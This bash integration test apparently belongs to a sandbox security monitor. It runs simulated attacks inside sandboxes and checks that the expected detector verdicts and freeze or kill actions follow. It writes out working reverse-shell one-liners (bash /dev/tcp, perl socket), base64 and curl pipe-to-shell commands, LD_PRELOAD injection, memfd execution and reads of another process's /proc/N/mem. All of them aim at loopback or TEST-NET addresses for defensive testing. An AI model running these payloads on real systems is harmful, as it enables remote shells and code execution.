#!/bin/bash
# The process tracer's senses of issue 16 (items 4-6), attacked from inside real sandboxes with
# the detectors' default actions on. A listener on 0.0.0.0 and an accept from loopback are
# events, not verdicts; netlink route (`ip addr`) works (the refused socket families and netlink
# kinds are escapes: tests/integration/92); an accept from a peer beyond loopback (an outsider in the
# sandbox's netns) is net.unexpected-listener (frozen); a rename to sshd is exec.masquerade (frozen); kill -1 from
# a step reaching another step's sleep is signal.beyond-step (frozen); LD_PRELOAD on an exec is
# exec.loader-injection (frozen) with its value cut at 63 bytes; a program run from /tmp is
# exec.drift (frozen), from a memfd or a deleted file exec.drift (killed); a shell whose stdio is
# an accepted socket, and a shell right after a refused connect, are net.reverse-shell (killed);
# so are a /dev/tcp -c string, a shell's own connect and a perl one-liner; base64 -d | sh is
# exec.pipe-to-shell (frozen); another process's /proc/N/mem is killed; an OOM kill is
# proc.oom-kill and one resource.oom-kill.
. "$(dirname "$0")/../lib.sh"
fb_setup
start_daemon --config "$FB_CONF"
POLICY=$FB_ROOT/tests/policies/attack.json

events() { "$FB" timeline "$1" --json; }
# verdicts SANDBOX: "rule severity action" of each verdict, sorted and unique.
verdicts() {
	events "$1" | python3 -c '
import json, sys
for e in map(json.loads, sys.stdin):
    if e["kind"] == "verdict":
        f = e["fields"]; print(f["rule"], f["severity"], f["action"])' | sort -u
}
# wait_verdict SANDBOX "RULE SEVERITY ACTION": up to 5 s.
wait_verdict() {
	for _ in $(seq 100); do verdicts "$1" | grep -qx "$2" && return 0; sleep 0.05; done
	echo "verdicts of $1: $(verdicts "$1")" >&2
	return 1
}
# killed SANDBOX: its cgroup has no process left.
killed() { wait_cgroup "$1" populated 0 5; }

# 1. Listener, accept, netlink route; then a rename to sshd.
cat >"$T/listen.py" <<'PY'
import socket, subprocess
srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 8765)); srv.listen(4)
c = socket.create_connection(("127.0.0.1", 8765)); a, peer = srv.accept()
a.close(); c.close(); srv.close()
# The refused families are escapes, each judged: tests/integration/92 tries them.
socket.socket(16, socket.SOCK_RAW, 0).close()               # NETLINK_ROUTE passes
assert subprocess.run(["ip", "addr"], capture_output=True).returncode == 0, "ip addr fails"
print("listen ok")
PY
cat >"$T/rename.py" <<'PY'
import ctypes, time
ctypes.CDLL(None).prctl(15, b"sshd", 0, 0, 0)  # PR_SET_NAME
time.sleep(3)
PY
create_sandbox ps1 "$POLICY"
for f in listen rename; do copy_in ps1 "$T/$f.py"; done
out=$("$FB" exec ps1 --tool attack --step 10 -- python3 /workspace/listen.py 2>&1) || fail "listen.py: $out"
assert_eq "$out" "listen ok" "bind, listen and accept work; ip addr works"
monitor_marker ps1
assert_eq "$(verdicts ps1)" "" "a listener on 0.0.0.0 and an accept from loopback get no verdict"
events ps1 | python3 -c '
import json, sys
ev = [json.loads(l) for l in sys.stdin]
on = lambda k: [e for e in ev if e["kind"] == k and e["step"] == 10 and e["tool"] == "attack"]
b = [e["fields"] for e in on("net.bind") if e["fields"]["port"] == 8765]
assert b and b[0]["address"] == "0.0.0.0" and b[0]["proto"] == "tcp" and b[0]["family"] == "inet", b
l = [e["fields"] for e in on("net.listen")]
assert [(f["address"], f["port"]) for f in l] == [("0.0.0.0", 8765)], l
a = [e["fields"] for e in on("net.accept")]
assert [(f["address"], f["port"], f["peer_address"]) for f in a] == [("127.0.0.1", 8765, "127.0.0.1")], a
s = [e for e in on("seccomp.denied") if e["fields"].get("name") == "socket"]
assert not s, s
' || fail "bind, listen, accept and netlink route of step 10"
ok "net.bind, net.listen (0.0.0.0:8765), net.accept (peer 127.0.0.1) on step 10; netlink route and ip addr not refused"
"$FB" exec ps1 --tool attack --step 11 -- python3 /workspace/rename.py >/dev/null 2>&1 &
wait_verdict ps1 "exec.masquerade high freeze" || fail "the rename to sshd is not exec.masquerade"
wait_cgroup ps1 frozen 1 || fail "ps1 is not frozen"
events ps1 | python3 -c '
import json, sys
r = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "proc.rename"]
r = [e for e in r if e["fields"]["new_comm"] == "sshd"]
assert r and r[0]["step"] == 11 and r[0]["tool"] == "attack" and r[0]["fields"]["old_comm"].startswith("python3"), r
assert r[0]["fields"]["exe"].startswith("python3"), r' || fail "proc.rename of step 11"
ok "prctl rename to sshd: proc.rename on step 11, exec.masquerade, frozen"
check "destroy ps1" "$FB" destroy ps1

# 1b. An accept from a peer that is not loopback: a process of the host in the sandbox's network
# namespace (an outsider getting in), from an address the test adds to the sandbox's lo.
cat >"$T/serve.py" <<'PY'
import socket
s = socket.socket(); s.bind(("0.0.0.0", 8766)); s.listen(1); s.settimeout(10)
a, p = s.accept(); print("accepted", p)
PY
create_sandbox ps9 "$POLICY"
copy_in ps9 "$T/serve.py"
"$FB" exec ps9 --tool attack --step 15 -- python3 /workspace/serve.py >/dev/null 2>&1 &
for _ in $(seq 100); do events ps9 | grep -q '"kind":"net.listen"' && break; sleep 0.05; done
INIT9=$(state_field ps9 init_pid)
nsenter -t "$INIT9" -n ip addr add 198.51.100.7/32 dev lo || fail "an address on the sandbox's lo"
nsenter -t "$INIT9" -n python3 -c '
import socket
c = socket.socket(); c.bind(("198.51.100.7", 0)); c.connect(("127.0.0.1", 8766)); c.close()' ||
	fail "connect from 198.51.100.7"
wait_verdict ps9 "net.unexpected-listener high freeze" || fail "a non-loopback accept is not net.unexpected-listener"
wait_cgroup ps9 frozen 1 || fail "ps9 is not frozen"
events ps9 | python3 -c '
import json, sys
a = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "net.accept"]
assert a and a[0]["step"] == 15 and a[0]["tool"] == "attack", a
assert (a[0]["fields"]["peer_address"], a[0]["fields"]["port"]) == ("198.51.100.7", 8766), a' ||
	fail "net.accept of step 15 from 198.51.100.7"
ok "an accept from 198.51.100.7: net.accept on step 15, net.unexpected-listener, frozen"
check "destroy ps9" "$FB" destroy ps9

# 2. kill -1 from a step: recorded and judged (seccomp logs it), and it reaches nothing beyond its
# own step (its Landlock domain scopes signals): step 20's sleep survives a SIGKILL to everyone.
cat >"$T/kill.py" <<'PY'
import os, signal
os.kill(-1, signal.SIGKILL)
PY
create_sandbox ps2 "$POLICY"
copy_in ps2 "$T/kill.py"
"$FB" exec ps2 --tool run --step 20 -- sleep 30 >/dev/null 2>&1 &
for _ in $(seq 100); do events ps2 | grep -q '"path":"/usr/bin/sleep"' && break; sleep 0.05; done
SLEEP20=$(cat "$V2/firebreak/ps2/step-20/cgroup.procs")
[ -n "$SLEEP20" ] || fail "step 20's sleep is not running"
"$FB" exec ps2 --tool attack --step 21 -- python3 /workspace/kill.py >/dev/null 2>&1 &
wait_verdict ps2 "signal.beyond-step high freeze" || fail "kill -1 is not signal.beyond-step"
wait_cgroup ps2 frozen 1 || fail "ps2 is not frozen"
kill -0 "$SLEEP20" 2>/dev/null || fail "kill -1 from step 21 killed step 20's sleep"
events ps2 | python3 -c '
import json, sys
s = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "signal.sent"]
assert not [e for e in s if e["fields"]["target_comm"] == "sleep"], s' ||
	fail "a signal.sent from step 21 to step 20's sleep"
ok "kill -1 from step 21: signal.beyond-step, frozen; step 20's sleep was not reached"
check "destroy ps2" "$FB" destroy ps2

# 3. LD_PRELOAD on an exec the tool's environment does not set.
LONG=/tmp/$(printf 'x%.0s' $(seq 90)).so
cat >"$T/preload.py" <<PY
import subprocess
subprocess.run(["/bin/true"], env={"LD_PRELOAD": "$LONG", "BASH_ENV": "/tmp/rc"})
PY
create_sandbox ps3 "$POLICY"
copy_in ps3 "$T/preload.py"
"$FB" exec ps3 --tool attack --step 30 -- python3 /workspace/preload.py >/dev/null 2>&1 &
wait_verdict ps3 "exec.loader-injection high freeze" || fail "LD_PRELOAD is not exec.loader-injection"
events ps3 | python3 -c '
import json, sys
x = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "proc.exec"]
x = [e for e in x if e["fields"]["path"] == "/bin/true"]
assert x and x[0]["step"] == 30 and x[0]["tool"] == "attack", x
f = x[0]["fields"]
assert f["loader_env"] == "LD_PRELOAD,BASH_ENV", f
assert f["loader_env_values"] == {"LD_PRELOAD": sys.argv[1][:63], "BASH_ENV": "/tmp/rc"}, f
assert f["exe_origin"] == "host" and f["parent_exe"].startswith("python3"), f' "$LONG" ||
	fail "proc.exec of /bin/true with its loader variables"
ok "LD_PRELOAD=... /bin/true: loader_env and values (cut at 63 bytes) on step 30, exec.loader-injection"
check "destroy ps3" "$FB" destroy ps3

# 4-6. Drift: a program from /tmp (high), from a memfd and from a deleted file (critical: killed).
cat >"$T/tmp.py" <<'PY'
import os, shutil
shutil.copy("/bin/true", "/tmp/t"); os.chmod("/tmp/t", 0o755)
os.execv("/tmp/t", ["t"])
PY
cat >"$T/memfd.py" <<'PY'
import os, time
fd = os.memfd_create("x", 0)
os.write(fd, open("/bin/sleep", "rb").read())
os.execve("/proc/self/fd/%d" % fd, ["sleep", "5"], {})
PY
cat >"$T/deleted.py" <<'PY'
import os, shutil
shutil.copy("/bin/sleep", "/workspace/d"); os.chmod("/workspace/d", 0o755)
fd = os.open("/workspace/d", os.O_RDONLY)
os.unlink("/workspace/d")
os.execve("/proc/self/fd/%d" % fd, ["sleep", "5"], {})
PY
drift() { # drift NAME SCRIPT ORIGIN "RULE SEV ACTION"
	create_sandbox "$1" "$POLICY"
	copy_in "$1" "$T/$2.py"
	"$FB" exec "$1" --tool attack --step 40 -- python3 "/workspace/$2.py" >/dev/null 2>&1 &
	wait_verdict "$1" "$4" || fail "$2: not $4"
	events "$1" | python3 -c '
import json, sys
x = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "proc.exec"]
x = [e for e in x if e["fields"]["exe_origin"] == sys.argv[1]]
assert x and x[0]["step"] == 40 and x[0]["tool"] == "attack", x' "$3" || fail "$2: no exec from $3"
}
drift ps4 tmp tmp "exec.drift high freeze"
wait_cgroup ps4 frozen 1 || fail "ps4 is not frozen"
ok "a program from /tmp: exe_origin tmp on step 40, exec.drift high, frozen"
check "destroy ps4" "$FB" destroy ps4
drift ps5 memfd memfd "exec.drift critical kill"
killed ps5 || fail "ps5 is not killed"
ok "a program from a memfd: exe_origin memfd, exec.drift critical, killed"
check "destroy ps5" "$FB" destroy ps5
drift ps6 deleted deleted "exec.drift critical kill"
killed ps6 || fail "ps6 is not killed"
ok "a deleted program: exe_origin deleted, exec.drift critical, killed"
check "destroy ps6" "$FB" destroy ps6

# 7. A reverse shell on the sandbox's own loopback: the accepted socket is bash's stdio.
cat >"$T/rsh.py" <<'PY'
import socket, subprocess
srv = socket.socket(); srv.bind(("127.0.0.1", 9999)); srv.listen(1)
c = socket.create_connection(("127.0.0.1", 9999)); a, _ = srv.accept()
subprocess.run(["/bin/bash", "-c", "sleep 5"], stdin=a, stdout=a, stderr=a)
PY
create_sandbox ps7 "$POLICY"
copy_in ps7 "$T/rsh.py"
"$FB" exec ps7 --tool attack --step 70 -- python3 /workspace/rsh.py >/dev/null 2>&1 &
wait_verdict ps7 "net.reverse-shell critical kill" || fail "bash on a socket is not net.reverse-shell"
killed ps7 || fail "ps7 is not killed"
events ps7 | python3 -c '
import json, sys
x = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "proc.exec"]
x = [e for e in x if e["fields"]["path"] == "/bin/bash"]
assert x and x[0]["step"] == 70 and x[0]["fields"]["stdio_socket"] == "stdin,stdout,stderr", x' ||
	fail "bash's exec with its socket stdio"
ok "bash with an accepted socket as stdio: stdio_socket, net.reverse-shell critical, killed"
check "destroy ps7" "$FB" destroy ps7

# 8. A shell right after a refused connect beyond loopback, by a tool with egress of its own (for
# one without, the connect alone is tool.network-out-of-scope, and the sandbox frozen first).
cat >"$T/rsh2.py" <<'PY'
import os, socket
try:
    socket.create_connection(("203.0.113.66", 4444), timeout=1)
except OSError:
    pass
os.execv("/bin/sh", ["sh", "-c", "sleep 5"])
PY
create_sandbox ps8 "$FB_ROOT/tests/policies/egress.json"
copy_in ps8 "$T/rsh2.py"
"$FB" exec ps8 --tool attack --step 80 -- python3 /workspace/rsh2.py >/dev/null 2>&1 &
wait_verdict ps8 "net.reverse-shell critical kill" || fail "a shell after a refused connect is not net.reverse-shell"
killed ps8 || fail "ps8 is not killed"
ok "a shell right after a refused connect: net.reverse-shell critical, killed"
check "destroy ps8" "$FB" destroy ps8
# 9. Reverse shells the egress hook stops before anything is exec'd after the connect: the
# shell's -c string (/dev/tcp to a literal host), a shell's own connect (the host in a variable,
# so only the connect's exe tells), a perl one-liner. Each killed. 203.0.113.0/24 is TEST-NET-3:
# the sandbox has no route there, and nothing leaves the machine.
cat >"$T/rsh3.py" <<'PY'
import os, subprocess, sys
os.environ["H"] = "203.0.113.7"
code = {
    "devtcp": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
    "connect": ["bash", "-c", "sleep 0.2; exec 3<>/dev/tcp/$H/4444; sleep 5"],
    "perl": ["perl", "-e", 'use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")); '
             'connect(S, sockaddr_in(4444, inet_aton("203.0.113.7"))); '
             'open(STDIN, ">&S"); open(STDOUT, ">&S"); sleep 5; exec("/bin/sh -i");'],
}[sys.argv[1]]
subprocess.run(code)
PY
rsh() { # rsh NAME CASE STEP
	create_sandbox "$1" "$POLICY"
	copy_in "$1" "$T/rsh3.py"
	"$FB" exec "$1" --tool attack --step "$3" -- python3 /workspace/rsh3.py "$2" >/dev/null 2>&1 &
	wait_verdict "$1" "net.reverse-shell critical kill" || fail "$2: not net.reverse-shell"
	killed "$1" || fail "$1 is not killed"
}
rsh ps10 devtcp 90
ok "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1': net.reverse-shell critical, killed"
check "destroy ps10" "$FB" destroy ps10
rsh ps11 connect 91
events ps11 | python3 -c '
import json, sys
c = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "net.connect"]
c = [e for e in c if e["fields"]["dst"] == "203.0.113.7"]
assert c and c[0]["step"] == 91 and c[0]["fields"]["exe"] == "bash" and c[0]["fields"]["port"] == 4444, c' ||
	fail "the shell's own connect with its exe"
ok "a shell's own connect to \$H (203.0.113.7): net.connect with exe bash, net.reverse-shell, killed"
check "destroy ps11" "$FB" destroy ps11
rsh ps12 perl 92
ok "a perl socket+connect+exec /bin/sh one-liner: net.reverse-shell critical, killed"
check "destroy ps12" "$FB" destroy ps12

# 10. Code decoded into a shell: echo ... | base64 -d | sh. The pipe joining them is recorded on
# both execs (stdout_pipe of base64, stdin_pipe of sh).
cat >"$T/pipe.py" <<'PY'
import subprocess
subprocess.run(["sh", "-c", "echo ZWNobyBoaTsgc2xlZXAgNQo= | base64 -d | sh"])
PY
create_sandbox ps13 "$POLICY"
copy_in ps13 "$T/pipe.py"
"$FB" exec ps13 --tool attack --step 93 -- python3 /workspace/pipe.py >/dev/null 2>&1 &
wait_verdict ps13 "exec.pipe-to-shell high freeze" || fail "base64 -d | sh is not exec.pipe-to-shell"
wait_cgroup ps13 frozen 1 || fail "ps13 is not frozen"
events ps13 | python3 -c '
import json, sys
x = [json.loads(l) for l in sys.stdin]
x = [e for e in x if e["kind"] == "proc.exec" and e["step"] == 93]
b = [e["fields"] for e in x if e["fields"]["argv"] == ["base64", "-d"]]
s = [e["fields"] for e in x if e["fields"]["argv"] == ["sh"]]
assert b and s and b[0]["stdout_pipe"] == s[0]["stdin_pipe"] > 0, (b, s)
assert "stdin_pipe" not in b[0] or b[0]["stdin_pipe"] != b[0]["stdout_pipe"], b' ||
	fail "the pipe joining base64 -d and sh"
ok "echo ... | base64 -d | sh: the pipe's inode on both execs, exec.pipe-to-shell high, frozen"
check "destroy ps13" "$FB" destroy ps13
# And downloaded: curl from a server on the sandbox's own loopback into bash.
cat >"$T/curl.py" <<'PY'
import functools, http.server, subprocess, threading
open("/workspace/i.sh", "w").write("sleep 5\n")
h = functools.partial(http.server.SimpleHTTPRequestHandler, directory="/workspace")
srv = http.server.HTTPServer(("127.0.0.1", 8767), h)
threading.Thread(target=srv.serve_forever, daemon=True).start()
subprocess.run(["sh", "-c", "curl -s http://127.0.0.1:8767/i.sh | bash"])
PY
create_sandbox ps16 "$POLICY"
copy_in ps16 "$T/curl.py"
"$FB" exec ps16 --tool attack --step 96 -- python3 /workspace/curl.py >/dev/null 2>&1 &
wait_verdict ps16 "exec.pipe-to-shell high freeze" || fail "curl | bash is not exec.pipe-to-shell"
wait_cgroup ps16 frozen 1 || fail "ps16 is not frozen"
events ps16 | python3 -c '
import json, sys
v = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "verdict"]
assert [e["fields"]["reason"] for e in v] == ["bash runs code piped from curl (downloaded)"], v' ||
	fail "curl | bash: one verdict, downloaded"
ok "curl from loopback | bash: exec.pipe-to-shell high (downloaded), the only verdict, frozen"
check "destroy ps16" "$FB" destroy ps16

# 11. Another process's memory opened: critical, killed.
cat >"$T/mem.py" <<'PY'
import subprocess, time
p = subprocess.Popen(["sleep", "30"])
time.sleep(0.2)
open("/proc/%d/mem" % p.pid, "rb").close()
time.sleep(5)
PY
create_sandbox ps14 "$POLICY"
copy_in ps14 "$T/mem.py"
"$FB" exec ps14 --tool attack --step 94 -- python3 /workspace/mem.py >/dev/null 2>&1 &
wait_verdict ps14 "file.sensitive-read critical kill" || fail "/proc/N/mem is not critical"
killed ps14 || fail "ps14 is not killed"
ok "another process's /proc/N/mem opened: file.sensitive-read critical, killed"
check "destroy ps14" "$FB" destroy ps14

# 12. A step allocating past the sandbox's 128 MiB: the OOM killer's victim is proc.oom-kill on
# its step, and resource.oom-kill is one verdict (the v1 memory controller here counts it only in
# the step's own memcg; where the sandbox's counter sees it too, it is the same verdict).
cat >"$T/oom.py" <<'PY'
b = []
for i in range(1024):
    b.append(b"x" * (1 << 20))
PY
create_sandbox ps15 "$POLICY"
copy_in ps15 "$T/oom.py"
"$FB" exec ps15 --tool attack --step 95 -- python3 /workspace/oom.py >/dev/null 2>&1
assert_eq "$?" "137" "the balloon was killed by SIGKILL"
wait_verdict ps15 "resource.oom-kill medium alert" || fail "the OOM kill is not resource.oom-kill"
# The sandbox's memory_oom_kill counter, where it moves (v2), is its second sighting of the kill and
# must add no verdict: wait until a sample of the sandbox's cgroup taken after the verdict is
# stored (a marker call moves its CPU counter, so the next round stores one).
after=$(date +%s%N)
monitor_marker ps15
sampled_since() {
	events ps15 | python3 -c '
import json, sys
sys.exit(0 if any(e["kind"] == "cgroup.stats" and e.get("step") is None and e["ts"] > int(sys.argv[1])
	for e in map(json.loads, sys.stdin)) else 1)' "$after"
}
wait_for 5 sampled_since || fail "no cgroup.stats sample of ps15 was stored after the OOM kill"
events ps15 | python3 -c '
import json, sys
ev = [json.loads(l) for l in sys.stdin]
o = [e for e in ev if e["kind"] == "proc.oom-kill"]
assert len(o) == 1 and o[0]["step"] == 95 and o[0]["tool"] == "attack", o
assert o[0]["comm"].startswith("python3") and o[0]["fields"]["trigger_pid"] > 0, o
v = [e for e in ev if e["kind"] == "verdict" and e["fields"]["rule"] == "resource.oom-kill"]
assert len(v) == 1 and v[0]["step"] == 95, v' || fail "proc.oom-kill on step 95 and one verdict"
ok "a balloon past 128 MiB: proc.oom-kill on step 95 (victim python3), one resource.oom-kill"
check "destroy ps15" "$FB" destroy ps15

# The tool calls left in the background end with their sandboxes (the daemon is a job too).
calls() { jobs -pr | grep -vx "$DAEMON_PID"; }
for _ in $(seq 100); do [ -z "$(calls)" ] && break; sleep 0.05; done
[ -z "$(calls)" ] || fail "tool calls still running after their sandbox was destroyed: $(jobs -r)"
assert_no_leftovers "after the senses test"
stop_daemon
